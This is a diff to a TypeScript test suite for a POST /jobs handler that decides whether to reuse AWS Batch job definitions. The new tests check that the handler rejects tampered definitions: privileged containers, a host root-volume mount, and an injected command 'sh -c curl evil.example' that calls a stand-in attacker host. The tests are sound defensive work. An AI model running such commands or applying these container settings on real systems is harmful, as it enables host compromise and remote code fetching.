@@ -89,6 +89,34 @@ afterEach(() => {
   manifestExists.mockRestore();
 });
 
+/** A managed job definition as DescribeJobDefinitions returns it (Batch fills in the empty lists). */
+function managedDefinition(name: string, revision: number, image: string) {
+  return {
+    jobDefinitionName: name,
+    jobDefinitionArn: DEFINITION_ARN(name, revision),
+    revision,
+    status: 'ACTIVE',
+    type: 'container',
+    parameters: {},
+    containerProperties: {
+      image,
+      command: [],
+      volumes: [],
+      environment: [],
+      mountPoints: [],
+      ulimits: [],
+      resourceRequirements: [
+        { value: '1', type: 'VCPU' },
+        { value: '2048', type: 'MEMORY' },
+      ],
+      secrets: [],
+    },
+    tags: { 'batch-registry-gateway:managed': 'true' },
+    platformCapabilities: ['EC2'],
+    containerOrchestrationType: 'ECS',
+  };
+}
+
 function postJobs(body: unknown): HttpEvent {
   const event = loadFixture<HttpEvent>('http/post-jobs.json');
   event.body = typeof body === 'string' ? body : JSON.stringify(body);
@@ -232,14 +260,9 @@ describe('POST /jobs handler', () => {
     it('reuses the newest active managed definition with the same image instead of registering one', async () => {
       const image = 'registry.example.com/team/app:1.4.2';
       batchMock.on(DescribeJobDefinitionsCommand).callsFake((input: { jobDefinitionName: string }) => ({
-        jobDefinitions: [1, 3, 2].map((revision) => ({
-          jobDefinitionName: input.jobDefinitionName,
-          jobDefinitionArn: DEFINITION_ARN(input.jobDefinitionName, revision),
-          revision,
-          status: 'ACTIVE',
-          type: 'container',
-          containerProperties: { image },
-        })),
+        jobDefinitions: [1, 3, 2].map((revision) =>
+          managedDefinition(input.jobDefinitionName, revision, image),
+        ),
       }));
 
       const { result, body } = await invoke(postJobs({ image }));
@@ -249,6 +272,35 @@ describe('POST /jobs handler', () => {
       expect(batchMock).toHaveReceivedCommandTimes(RegisterJobDefinitionCommand, 0);
       expect(batchMock).toHaveReceivedCommandWith(SubmitJobCommand, { jobDefinition: body.jobDefinition });
     });
+
+    it.each<[string, Record<string, unknown>]>([
+      ['privileged', { containerProperties: { privileged: true } }],
+      ['a host volume', { containerProperties: { volumes: [{ name: 'root', host: { sourcePath: '/' } }] } }],
+      [
+        'an execution role',
+        { containerProperties: { executionRoleArn: 'arn:aws:iam::123456789012:role/x' } },
+      ],
+      ['a command', { containerProperties: { command: ['sh', '-c', 'curl evil.example'] } }],
+      ['no managed tag', { tags: {} }],
+    ])(
+      'does not reuse a revision someone registered under the managed name with %s',
+      async (_case, extra) => {
+        const image = 'registry.example.com/team/app:1.4.2';
+        batchMock.on(DescribeJobDefinitionsCommand).callsFake((input: { jobDefinitionName: string }) => {
+          const definition = managedDefinition(input.jobDefinitionName, 7, image);
+          const containerProperties = {
+            ...definition.containerProperties,
+            ...(extra.containerProperties ?? {}),
+          };
+          return { jobDefinitions: [{ ...definition, ...extra, containerProperties }] };
+        });
+
+        const { result } = await invoke(postJobs({ image }));
+
+        expect(result.statusCode).toBe(202);
+        expect(batchMock).toHaveReceivedCommandTimes(RegisterJobDefinitionCommand, 1);
+      },
+    );
 
     it('registers a new revision when the active definition has another image', async () => {
       batchMock.on(DescribeJobDefinitionsCommand).callsFake((input: { jobDefinitionName: string }) => ({
